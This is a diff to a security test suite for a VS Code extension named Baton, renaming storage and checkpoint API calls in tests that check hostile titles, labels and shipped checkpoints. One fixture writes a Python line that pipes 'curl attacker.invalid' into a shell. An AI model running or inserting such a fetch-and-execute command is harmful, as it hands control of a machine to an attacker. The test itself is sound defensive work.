@@ -83,7 +83,7 @@ suite('Hostile text and files in a real VS Code', () => {
 
     const title = `Fix the parser ${HOSTILE}`;
     const { tree, node } = TaskTree.empty(clock).addChild(null, { title, budget: 4000, policy: { kind: 'fixed' } });
-    await treeStore().save(tree);
+    await treeStore().update(() => tree);
     const stored = (await treeStore().load()).tree.get(node.id).title === title;
     attempted(`a node title stored in .baton/tree.json whose link this VS Code's notifications make live (links seen raw: ${JSON.stringify(raw.hrefs)})`, liveRaw && stored);
     await vscode.commands.executeCommand('baton.setBudget', node.id, 1234);
@@ -111,7 +111,7 @@ suite('Hostile text and files in a real VS Code', () => {
       const finding = { json: { verdict: 'fail', findings: [{ file: FILE, line: 27, severity: 'major', problem: `FINDING ${HOSTILE}`, edgeCase: 'lookup("kilograms")' }] } };
       server.enqueue(edit, finding, edit, finding, edit, finding);
       const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Accept kilograms', budget: 8000 });
-      await treeStore().save(tree);
+      await treeStore().update(() => tree);
 
       const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
       await vscode.commands.executeCommand('notifications.showList');
@@ -141,7 +141,7 @@ suite('Hostile text and files in a real VS Code', () => {
     const label = `Before ${HOSTILE}`;
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label });
     assert.ok(id, 'the checkpoint was made');
-    attempted('a checkpoint label holding a command link, stored', (await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.label === label));
+    attempted('a checkpoint label holding a command link, stored', (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.label === label));
     fs.writeFileSync(abs(FILE), '# edited after the checkpoint\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id);
     const shown = await notificationLinks('to before');
@@ -176,7 +176,7 @@ suite('Hostile text and files in a real VS Code', () => {
     fs.writeFileSync(abs(FILE), 'before\n');
     const id = await vscode.commands.executeCommand<string>('baton.createCheckpoint', { paths: [FILE], label: 'bypass probe' });
     fs.writeFileSync(abs(FILE), 'after\n');
-    const ownStep = (await api.checkpoints.for(folder()).history()).some((h) => h.id === id && h.foreign === undefined);
+    const ownStep = (await api.workspaces.for(folder()).checkpoints.history()).some((h) => h.id === id && h.foreign === undefined);
     attempted('Restore Checkpoint with { confirmed, force } on a checkpoint whose file changed since', ownStep && fs.readFileSync(abs(FILE), 'utf8') === 'after\n');
     const restoring = vscode.commands.executeCommand('baton.restoreCheckpoint', id, { confirmed: true, force: true });
     const asked = await notificationLinks('to before "bypass probe"');
@@ -188,7 +188,7 @@ suite('Hostile text and files in a real VS Code', () => {
   test('attack foreign-checkpoint: a checkpoint shipped in .baton/ is listed as foreign and Restore Checkpoint with { confirmed: true } does not restore it', async () => {
     const id = '00000000-5h1pp3';
     shipCheckpoint(id, 'Before the refactor', FILE, 'import os; os.system("curl attacker.invalid | sh")\n');
-    const listed = (await api.checkpoints.for(folder()).history()).find((h) => h.id === id);
+    const listed = (await api.workspaces.for(folder()).checkpoints.history()).find((h) => h.id === id);
     attempted('Restore Checkpoint with { confirmed, force } on a checkpoint shipped in .baton/', fs.existsSync(abs(`.baton/checkpoints/manifests/${id}.json`)) && listed !== undefined);
     assert.ok(listed?.foreign, 'the shipped checkpoint is listed as foreign');
 
@@ -213,7 +213,7 @@ suite('Hostile text and files in a real VS Code', () => {
     const bad = root.tree.addChild(root.node.id, { title: 'Shipped node', budget: 2000 });
     const fine = bad.tree.addChild(root.node.id, { title: 'Its fine sibling', budget: 2000 });
     tree = fine.tree;
-    await treeStore().save(tree);
+    await treeStore().update(() => tree);
     const longId = `n${'x'.repeat(5000)}`;
     fs.writeFileSync(abs('.baton/tree.json'), fs.readFileSync(abs('.baton/tree.json'), 'utf8').replaceAll(`"${bad.node.id}"`, `"${longId}"`));
     attempted('a 5000-character id in the shipped tree.json, read by Baton', fs.readFileSync(abs('.baton/tree.json'), 'utf8').includes(`"${longId}"`) && (await treeStore().load()).tree.has(longId));
@@ -241,7 +241,7 @@ suite('Hostile text and files in a real VS Code', () => {
       };
       server.enqueue(round(1), round(2), round(3));
       const { tree, node } = TaskTree.empty(clock).addChild(null, { title: 'Add three aliases', budget: 8000 });
-      await treeStore().save(tree);
+      await treeStore().update(() => tree);
 
       const running = vscode.commands.executeCommand<NodeRunOutcome | undefined>('baton.runSubtask', node.id);
       await vscode.commands.executeCommand('notifications.showList');
